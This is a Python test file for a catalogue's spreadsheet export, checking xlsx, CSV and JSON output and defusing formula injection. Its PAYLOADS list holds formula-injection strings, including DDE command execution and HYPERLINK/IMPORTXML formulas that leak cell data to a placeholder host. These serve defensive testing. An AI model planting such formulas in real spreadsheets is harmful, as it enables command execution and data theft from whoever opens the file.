import csv
import io
import json
from datetime import UTC, date, datetime

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from catalogue.output.sheets import (
    Kind,
    RowGroup,
    Sheet,
    SheetColumn,
    defused,
    is_formula,
    sheet_response,
    write_csv,
    write_json,
    write_xlsx,
)

COLUMNS = [
    SheetColumn("title", "Title"),
    SheetColumn("countries", "Countries", Kind.LIST),
    SheetColumn("runtime", "Runtime", Kind.NUMBER),
    SheetColumn("assessed", "Assessed", Kind.DAY),
    SheetColumn("announced", "Announced", Kind.HOUR),
]
HOUR = datetime(2026, 1, 20, 10, 0, tzinfo=UTC)
TIDE = ["Tide", ["Belgium", "Denmark"], 82, date(2026, 1, 2), HOUR]
BARE = ["2046", [], None, None, None]
SHEET = Sheet(
    "Desk 2026", COLUMNS, [RowGroup([TIDE], "Panorama · 1 film"), RowGroup([BARE], "Shorts")]
)
PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "+1+1",
    "-2+3+cmd|'/C calc'!A0",
    "-1-1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "\ufeff=1+1",
]
HONEST = ["-5 °C", "+49 30 259 200", "1+1=2", "Tide (director's cut)", "−5", "’t Hart"]


def naive(*numbers):
    """A day or an hour as spreadsheets have them: without a time zone."""
    return datetime(*numbers, tzinfo=UTC).replace(tzinfo=None)


def sheet_of(*texts):
    return Sheet("One", COLUMNS[:1], [RowGroup([[text] for text in texts])])


def workbook(sheet):
    return openpyxl.load_workbook(io.BytesIO(write_xlsx(sheet))).active


def csv_rows(sheet):
    text = write_csv(sheet).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_workbook_has_typed_cells_and_a_head_that_stays():
    page = workbook(SHEET)

    assert [[cell.value for cell in row] for row in page.iter_rows()] == [
        ["Title", "Countries", "Runtime", "Assessed", "Announced"],
        ["Panorama · 1 film", None, None, None, None],
        ["Tide", "Belgium, Denmark", 82, naive(2026, 1, 2), naive(2026, 1, 20, 10)],
        ["Shorts", None, None, None, None],
        ["2046", None, None, None, None],
    ]
    assert [cell.data_type for cell in page[3]] == ["s", "s", "n", "d", "d"]
    assert page["D3"].number_format == "yyyy-mm-dd"
    assert (page.title, page.freeze_panes) == ("Desk 2026", "A2")
    assert {name: column.width for name, column in page.column_dimensions.items()} == {
        "A": 7,
        "B": 18,
        "C": 9,
        "D": 12,
        "E": 24,
    }


@pytest.mark.parametrize("payload", [*PAYLOADS, "#N/A", *HONEST])
def test_no_formula_runs_in_a_workbook_and_every_text_is_kept(payload):
    cell = workbook(sheet_of(payload))["A2"]

    assert (cell.value, cell.data_type) == (payload.replace("\r", "\n"), "s")
    assert cell.quotePrefix == (payload in PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_formula_runs_in_a_csv(payload):
    assert csv_rows(sheet_of(payload))[1] == [f"'{payload}"]


@pytest.mark.parametrize("text", HONEST)
def test_honest_texts_stay_as_they_are_in_a_csv(text):
    assert csv_rows(sheet_of(text))[1] == [text]


def test_a_csv_begins_with_a_mark_for_excel_and_has_every_row():
    assert write_csv(SHEET).startswith("\ufeffTitle,".encode())
    assert csv_rows(SHEET) == [
        ["Title", "Countries", "Runtime", "Assessed", "Announced"],
        ["Panorama · 1 film", "", "", "", ""],
        ["Tide", "Belgium, Denmark", "82", "2026-01-02", "2026-01-20T10:00+00:00"],
        ["Shorts", "", "", "", ""],
        ["2046", "", "", "", ""],
    ]


def test_json_says_it_all_as_it_is():
    sheet = Sheet("One", COLUMNS, [RowGroup([["=1+1", *TIDE[1:]]], "Panorama")])

    assert json.loads(write_json(sheet)) == {
        "name": "One",
        "columns": [
            {"key": "title", "name": "Title", "kind": "text"},
            {"key": "countries", "name": "Countries", "kind": "list"},
            {"key": "runtime", "name": "Runtime", "kind": "number"},
            {"key": "assessed", "name": "Assessed", "kind": "day"},
            {"key": "announced", "name": "Announced", "kind": "hour"},
        ],
        "groups": [
            {
                "heading": "Panorama",
                "rows": [
                    {
                        "title": "=1+1",
                        "countries": ["Belgium", "Denmark"],
                        "runtime": 82,
                        "assessed": "2026-01-02",
                        "announced": "2026-01-20T10:00+00:00",
                    }
                ],
            }
        ],
    }


def test_what_no_workbook_can_hold_is_left_out():
    assert workbook(sheet_of("a\x00b\x1fc"))["A2"].value == "abc"
    assert len(workbook(sheet_of("x" * 40_000))["A2"].value) == 32_767
    assert workbook(Sheet("a/b: [c]" + 40 * "d", COLUMNS)).title == "a b   c " + 23 * "d"
    assert workbook(Sheet("'", COLUMNS)).title == "Sheet"


def restored(cell):
    return cell[1:] if cell.startswith("'") and is_formula(cell.lstrip("'")) else cell


@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=8) | st.sampled_from(PAYLOADS)))
def test_who_reads_a_csv_has_the_texts_as_they_were(texts):
    rows = csv_rows(sheet_of(*texts, "end"))

    assert [restored(row[0]) if row else "" for row in rows[1:-1]] == texts


@given(st.text(alphabet="=+-@\t\r\n＝＋－＠' 0aA1|!()°", max_size=6))
def test_nothing_defused_begins_like_a_formula(text):
    assert not is_formula(defused(text))


def test_a_sheet_is_sent_as_a_file_of_its_name():
    response = sheet_response(SHEET, "csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="Desk 2026.csv"'
    assert response.content == write_csv(SHEET)
